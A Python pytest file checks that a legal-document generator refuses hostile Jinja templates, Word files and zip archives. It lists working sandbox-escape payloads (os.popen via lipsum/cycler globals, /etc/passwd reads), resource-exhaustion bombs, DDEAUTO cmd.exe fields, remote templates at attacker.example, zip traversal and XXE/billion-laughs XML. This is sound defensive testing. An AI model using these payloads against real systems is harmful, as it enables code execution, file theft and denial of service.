"""Templates and archives made to do harm: each is refused with a clear fault, and nothing is read or written outside."""

from __future__ import annotations

import stat
import sys
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import date
from io import BytesIO
from pathlib import Path

import pytest

from complaintgen import PackError, generate, load_pack
from complaintgen.files.archives import open_docx_safely, parse_part
from complaintgen.packcheck.lint import check_pack
from complaintgen.packcheck.preview import read_sample
from complaintgen.papers.readiness import Severity
from complaintgen.word.environment import MOST_UNITS, limited
from complaintgen.word.template import read_template
from tests.packcheck import word
from tests.packcheck.word import Change, both, first, p, part, related, run, swapped
from tests.support import the_law

DAY = date(2026, 3, 2)
LAW = the_law()
CASE = read_sample("microloan_borrower")
BIG = 10 ** 9

_events: list[str] = []
_watching = False


def _note(event: str, arguments: tuple[object, ...]) -> None:
    if not _watching:
        return
    writes = event == "open" and isinstance(arguments[1], str) and set(arguments[1]) & set("wax+")
    if writes or event.startswith(("socket.", "subprocess.", "os.system", "os.exec", "os.posix_spawn", "ctypes.", "urllib.")):
        _events.append(f"{event} {arguments!r}")


sys.addaudithook(_note)  # it cannot be removed, so it looks away unless told to watch


@contextmanager
def nothing_outside() -> Iterator[None]:
    """No file is written, no connection made, no program run inside."""
    global _watching  # noqa: PLW0603  (an audit hook has no other way to be told)
    _events.clear()
    _watching = True
    try:
        yield
    finally:
        _watching = False
    assert _events == []


# Ways out of the sandbox, as Jinja's advisories and their write-ups tell them

ESCAPES = {
    "str.format": "{{ '{0.__class__.__mro__}'.format(case) }}",
    "str.format_map": "{{ '{a.__class__}'.format_map({'a': case}) }}",
    "format through a variable": "{% set f = '{0.__class__}'.format %}{{ f(case) }}",
    "format through map": "{{ ['{0.__class__}']|map('format', case)|list }}",
    "format as a filter": "{{ '%s'|format(case) }}",
    "percent format": "{{ '%s' % case }}",
    "attr": "{{ case|attr('__class__') }}",
    "attr through map": "{{ [case]|map('attr', '__class__')|first }}",
    "attribute through map": "{{ ([case]|map(attribute='__class__')|first).mro() }}",
    "attribute through sort": "{{ [case, case]|sort(attribute='__class__.__base__')|first }}",
    "attribute through groupby": "{% for name, items in [case]|groupby('__init__') %}{{ name }}{% endfor %}",
    "an item for an attribute": "{{ case['__class__'] }}",
    "the frame of a generator": "{{ (contacts|map('upper')).gi_frame.f_globals }}",
    "the globals of cycler": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "the globals of lipsum": "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "the globals of joiner": "{{ joiner.__init__.__globals__ }}",
    "the globals of namespace": "{{ namespace.__init__.__globals__ }}",
    "the globals of a function of ours": "{{ say.__globals__ }}",
    "the closure of a function of ours": "{{ rule.__closure__[0].cell_contents }}",
    "the context through self": "{{ self._TemplateReference__context }}",
    "the code of a macro": "{% macro m() %}{% endmacro %}{{ m._func.__globals__ }}",
    "the caller": "{% macro m() %}{{ caller.__call__ }}{% endmacro %}{% call m() %}{% endcall %}",
    "the subclasses of object": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "the environment of the loop": "{% for a in [1] %}{{ loop._iterator.__reduce__() }}{% endfor %}",
    "a method of pydantic": "{{ case.model_dump_json() }}",
    "a copy by pydantic": "{{ case.model_copy(update={'role': 'x'}) }}",
    "a file read by pydantic": "{{ case.parse_file('/etc/passwd') }}",
    "a file read by pydantic through must": "{{ must.parse_file('/etc/passwd') }}",
    "the model behind must": "{{ must._model }}",
    "a private function of an element": "{{ conduct[0].grounds[0].tests[0].element.predicate }}",
    "a changed list": "{{ offered.append('x') }}",
    "a changed dictionary": "{{ titles.update({'x': 1}) }}",
    "keys of xmlattr": "{{ {'x onclick=1': 1}|xmlattr }}",
    "another file": "{% include '/etc/passwd' %}",
    "an import": "{% import 'os' as os %}{{ os }}",
    "a parent": "{% extends '/etc/passwd' %}",
    "escaping switched off": "{% autoescape false %}{{ '<w:p/>' }}{% endautoescape %}",
    "text marked safe": "{{ case.loan.app|safe }}",
}
# Work without end

BOMBS = {
    "a loop of 10^10": "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}",
    "a range of 10^9": f"{{% for a in range({BIG}) %}}{{% endfor %}}",
    "a text of 10^9": f"{{{{ 'a' * {BIG} }}}}",
    "a list of 10^9": f"{{{{ ([1] * {BIG})|length }}}}",
    "a power of a power": "{{ 9 ** 9 ** 9 ** 9 }}",
    "a number that squares itself": "{% set n = namespace(x=99) %}{% for i in range(99) %}{% set n.x = n.x * n.x %}{% endfor %}",
    "a text that doubles": "{% set n = namespace(x='aaaa') %}{% for i in range(99) %}{% set n.x = n.x ~ n.x %}{% endfor %}",
    "a text that doubles by plus": "{% set n = namespace(x='aaaa') %}{% for i in range(99) %}{% set n.x = n.x + n.x %}{% endfor %}",
    "a text that doubles in a block": "{% set n = namespace(x='aaaa') %}{% for i in range(99) %}{% set n.x %}{{ n.x }}{{ n.x }}{% endset %}{% endfor %}",
    "a text that doubles through macros": "{% macro d(x) %}{{ x }}{{ x }}{% endmacro %}{{ " + "d(" * 40 + "'aaaa'" + ")" * 40 + " }}",
    "a text that replaces itself": "{{ 'aaaaaaaaaa'" + "|replace('a', 'aaaaaaaaaa')" * 15 + " }}",
    "a joined text": "{{ range(100000)|join('" + "x" * 2000 + "') }}",
    "lists that hold one another": "{% set n = namespace(x=[1]) %}{% for i in range(99) %}{% set n.x = [n.x, n.x] %}{% endfor %}{{ n.x|length }}",
    "dictionaries that hold one another": "{% set n = namespace(x={}) %}{% for i in range(99) %}{% set n.x = {'a': n.x, 'b': n.x} %}{% endfor %}{{ [n.x]|list|length }}",
    "equal lists compared": "{% set a = namespace(x=[1], y=[1]) %}{% for i in range(99) %}{% set a.x = [a.x, a.x] %}{% set a.y = [a.y, a.y] %}{% endfor %}{{ a.x == a.y }}",
    "a long text searched again and again": "{% set a = 'x' * 7000000 %}{% for i in range(100000) %}{% if 'y' in a %}{% endif %}{% endfor %}",
    "a long text cut again and again": "{% set a = 'x' * 7000000 %}{% for i in range(100000) %}{% set b = a[1:] %}{% endfor %}",
    "a macro that calls itself": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "a macro that calls itself twice": "{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}{{ m(60) }}",
    "a loop that calls itself": "{% for a in range(2) recursive %}{% if loop.depth < 90 %}{{ loop(range(2)) }}{% endif %}{% endfor %}",
    "a width": f"{{{{ 'a'|center({BIG}) }}}}",
    "a width of indentation": f"{{{{ 'a'|indent({BIG}) }}}}",
    "a width by percent": f"{{{{ '%{BIG}d' % 1 }}}}",
    "a width by format": f"{{{{ '{{:>{BIG}}}'.format(1) }}}}",
    "a day in a wide field": f"{{{{ day.strftime('%{BIG}d') }}}}",
    "brackets in brackets": "{{ " + "(" * 5000 + "1" + ")" * 5000 + " }}",
    "loops in loops": "{% for a in [1] %}" * 60 + "{% endfor %}" * 60,
    "a long sum": "{{ " + "+".join(["1"] * 20_000) + " }}",
    "many tags left open": "{{ " * 5_000,
}


@pytest.mark.parametrize("source", (ESCAPES | BOMBS).values(), ids=(ESCAPES | BOMBS).keys())
def test_a_malicious_template_is_refused(source: str, tmp_path: Path) -> None:
    pack = word.pack_of(tmp_path, {"demand_letter": word.changed("demand_letter", first(p(run(source))))})
    # What is written until the limit of the program takes ten seconds; that it sets one is the test below.
    with nothing_outside(), pytest.raises(PackError) as caught, limited(MOST_UNITS // 10):
        generate(CASE, LAW, pack, DAY, ["demand_letter"])
    said = str(caught.value)
    assert "demand_letter.docx 正文" in said
    assert "object at 0x" not in said
    assert "root:" not in said


def test_nobody_need_set_the_limit(tmp_path: Path) -> None:
    pack = word.pack_of(tmp_path, {"demand_letter": word.changed("demand_letter", first(p(run(BOMBS["a loop of 10^10"]))))})
    with nothing_outside(), pytest.raises(PackError, match="已经停止"):
        generate(CASE, LAW, pack, DAY, ["demand_letter"])


@pytest.mark.parametrize("source", list(ESCAPES.values())[::4], ids=list(ESCAPES)[::4])
def test_a_malicious_phrase_is_refused(source: str, tmp_path: Path) -> None:
    phrases = f"\n[extra]\nline = '''{source}'''\n"
    pack = word.pack_of(tmp_path, {"demand_letter": word.changed("demand_letter", first(p('{{ say("extra.line") }}')))}, phrases)
    with nothing_outside(), pytest.raises(PackError):
        generate(CASE, LAW, pack, DAY, ["demand_letter"])


def test_phrases_that_use_one_another_end(tmp_path: Path) -> None:
    phrases = "\n[extra]\none = '''{{ say(\"extra.two\") }}{{ say(\"extra.two\") }}'''\ntwo = '''{{ say(\"extra.one\") }}'''\n"
    pack = word.pack_of(tmp_path, {"demand_letter": word.changed("demand_letter", first(p('{{ say("extra.one") }}')))}, phrases)
    with pytest.raises(PackError, match="没有尽头"):
        generate(CASE, LAW, pack, DAY, ["demand_letter"])


# What acts when the paper is opened

REMOTE = "https://attacker.example/x.dotm"
CARRIED: dict[str, tuple[Change, str]] = {
    "a remote template": (related("attachedTemplate", REMOTE, external=True, owner="word/settings.xml"), "网络上的模板"),
    "a template on a share": (related("attachedTemplate", "file://attacker.example/share/x.dotm", external=True, owner="word/settings.xml"), "网络上的模板"),
    "a template on a Windows share": (related("attachedTemplate", r"\\attacker.example\share\x.dotm", external=True, owner="word/settings.xml"), "网络上的模板"),
    "a linked picture": (related("image", "https://attacker.example/x.png", external=True), "引用了文件以外"),
    "a linked object": (related("oleObject", "https://attacker.example/x", external=True), "引用了文件以外"),
    "a linked frame": (related("frame", REMOTE, external=True, owner="word/webSettings.xml"), "引用了文件以外"),
    "a linked part of the document": (related("subDocument", REMOTE, external=True), "引用了文件以外"),
    "a linked picture in the footer": (related("image", "https://attacker.example/x.png", external=True, owner="word/footer1.xml"), "引用了文件以外"),
    "a macro": (part("word/vbaProject.bin", "x", "vbaProject"), "宏"),
    "a macro file under another name": (swapped("wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml", "[Content_Types].xml"), "宏"),
    "an embedded object": (part("word/embeddings/oleObject1.bin", "x", "oleObject"), "OLE"),
    "an embedded program": (part("word/embeddings/run.exe", "x", "package"), "OLE"),
    "a control": (part("word/activeX/activeX1.xml", f"<w:x {word.DECLARED}/>", "control"), "ActiveX"),
    "another document inside": (both(first('<w:altChunk r:id="rIdXaFChunk"/>'), part("word/afchunk.mht", "x", "aFChunk")), "altChunk"),
    "a DDE field": (first(p(word.field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '))), "域"),
    "a DDE field in one element": (first(p('<w:fldSimple w:instr=" DDE excel x "><w:r><w:t>1</w:t></w:r></w:fldSimple>')), "域"),
    "a field that reads a file": (first(p(word.field(' INCLUDETEXT "file:///etc/passwd" '))), "域"),
    "a field that loads a picture": (first(p(word.field(' INCLUDEPICTURE "https://attacker.example/x.png" \\d '))), "域"),
    "a field whose code a tag makes": (first(p(word.field(' {{ "DD" ~ "E" }} excel '))), "模板标记"),
    "a field in the footer": (swapped("<w:p>", p(word.field(" LINK Excel.Sheet.8 x ")) + "<w:p>", "word/footer1.xml"), "域"),
}


@pytest.mark.parametrize(("change", "said"), CARRIED.values(), ids=CARRIED.keys())
def test_a_template_that_carries_something_active_is_neither_rendered_nor_passed(change: Change, said: str, tmp_path: Path) -> None:
    data = word.changed("demand_letter", change)
    with nothing_outside(), pytest.raises(PackError, match=said):
        read_template("demand_letter.docx", data, word.environment())
    found = check_pack(word.pack_of(tmp_path, {"demand_letter": data}), LAW, {}, DAY)
    assert any(said in finding.reason and finding.severity is Severity.ERROR and finding.why for finding in found)


# Archives and XML

def archive(*entries: tuple[str | zipfile.ZipInfo, bytes]) -> bytes:
    target = BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in (*word.parts_of("demand_letter").items(), *entries):
            file.writestr(name, data)
    return target.getvalue()


def link(name: str, target: bytes) -> tuple[zipfile.ZipInfo, bytes]:
    entry = zipfile.ZipInfo(name)
    entry.create_system, entry.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return entry, target


def lying(size: int) -> bytes:
    """An archive that declares less than it holds."""
    data = bytearray(archive(("word/big.xml", b"\0" * size)))
    where = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/big.xml"))
    data[where + 24:where + 28] = (10).to_bytes(4, "little")
    return bytes(data)


ARCHIVES = {
    "a path that climbs": (archive(("../../evil.xml", b"x")), "文件夹以外"),
    "an absolute path": (archive(("/etc/evil", b"x")), "文件夹以外"),
    "a path of Windows": (archive(("C:\\evil.xml", b"x")), "文件夹以外"),
    "a link": (archive(link("word/link.xml", b"/etc/passwd")), "链接"),
    "a bomb": (archive(("word/big.xml", b"\0" * (31 << 20))), "压缩炸弹"),
    "a large bomb": (archive(("word/big.xml", b"\0" * (40 << 20))), "超过 32 MB"),
    "too many files": (archive(*((f"word/{number}.xml", b"x") for number in range(2_100))), "超过 2000 个"),
    "an entry that lies about its size": (lying(5_000), "损坏"),
    "half a file": (archive()[:2_000], "损坏"),
    "no archive": (b"\xd0\xcf\x11\xe0" + b"\0" * 600, "损坏"),
    "an archive that is no Word file": (word.packed({"hello.txt": b"x"}), "没有 word/document.xml"),
}


@pytest.mark.parametrize(("data", "said"), ARCHIVES.values(), ids=ARCHIVES.keys())
def test_a_malicious_archive_is_refused(data: bytes, said: str) -> None:
    with nothing_outside(), pytest.raises(PackError, match=said):
        open_docx_safely(data, "x.docx")


def test_a_file_that_stands_twice_is_refused() -> None:
    with pytest.warns(UserWarning, match="Duplicate name"):
        data = archive(("word/document.xml", b"<evil/>"))
    with pytest.raises(PackError, match="出现了 2 次"):
        open_docx_safely(data)


def test_a_file_that_stands_twice_in_another_case_is_refused() -> None:
    with pytest.raises(PackError, match="出现了 2 次"):
        open_docx_safely(archive(("WORD/Document.xml", b"<evil/>")))


LAUGHS = "<!DOCTYPE w [<!ENTITY a '" + "ha" * 50 + "'>" + "".join(
    f"<!ENTITY {chr(98 + level)} '{f'&{chr(97 + level)};' * 20}'>" for level in range(9)) + "]><w>&j;</w>"
XML = {
    "an external entity": "<!DOCTYPE w [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><w>&x;</w>",
    "an external document type": "<!DOCTYPE w SYSTEM 'https://attacker.example/x.dtd'><w/>",
    "a parameter entity": "<!DOCTYPE w [<!ENTITY % x SYSTEM 'https://attacker.example/x'> %x;]><w/>",
    "a billion laughs": LAUGHS,
    "a billion laughs in an attribute": LAUGHS.replace("<w>&j;</w>", "<w a='&j;'/>"),
    "a document type in UTF-16": "<!DOCTYPE w [<!ENTITY x 'y'>]><w>&x;</w>",
    "depth": "<w>" * 100_000 + "</w>" * 100_000,
    "no XML": "<w><x></w>",
}


@pytest.mark.parametrize(("name", "xml"), XML.items(), ids=XML.keys())
def test_malicious_xml_is_refused(name: str, xml: str) -> None:
    data = xml.encode("utf-16" if "UTF-16" in name else "utf-8")
    with nothing_outside(), pytest.raises(PackError) as caught:
        parse_part(data, "x.docx 正文")
    assert "x.docx 正文" in str(caught.value)


def test_the_corpus_is_large_enough() -> None:
    assert len(ESCAPES) + len(BOMBS) + len(CARRIED) + len(ARCHIVES) + len(XML) >= 25


@pytest.mark.parametrize("source", [BOMBS["a loop of 10^10"], ESCAPES["the globals of lipsum"], "{{ nothing }}", "{{ 1 // 0 }}"])
def test_a_malicious_title_is_refused(source: str, tmp_path: Path) -> None:
    """The program reads titles without a paper around them."""
    phrases = (word.DEFAULT / "phrases.toml").read_text("utf-8").replace("title = '''办案摘要'''", f"title = '''{source}'''")
    word.pack_of(tmp_path, {})
    (tmp_path / "phrases.toml").write_text(phrases, "utf-8")
    pack = load_pack(str(tmp_path))
    with nothing_outside(), pytest.raises(PackError, match=r"phrases\.toml 的 case_summary\.title"):
        pack.title("case_summary.title")


@pytest.mark.parametrize("title", ["../../evil", "/tmp/evil", "..\\\\evil", "C:evil", "a/b", "x\\u0000y"])
def test_a_title_cannot_lead_out_of_the_folder(title: str, tmp_path: Path) -> None:
    word.pack_of(tmp_path / "pack", {"demand_letter": word.changed("demand_letter", lambda parts: None)})
    about = (word.DEFAULT / "pack.toml").read_text("utf-8").replace("停止骚扰及说明信息来源函", title)
    (tmp_path / "pack" / "pack.toml").write_text(about, "utf-8")
    try:
        bundle = generate(CASE, LAW, load_pack(str(tmp_path / "pack")), DAY, ["demand_letter"])
    except PackError:
        return
    for paper in bundle.papers:
        assert not set(paper.file_name) & set("/\\:\0")
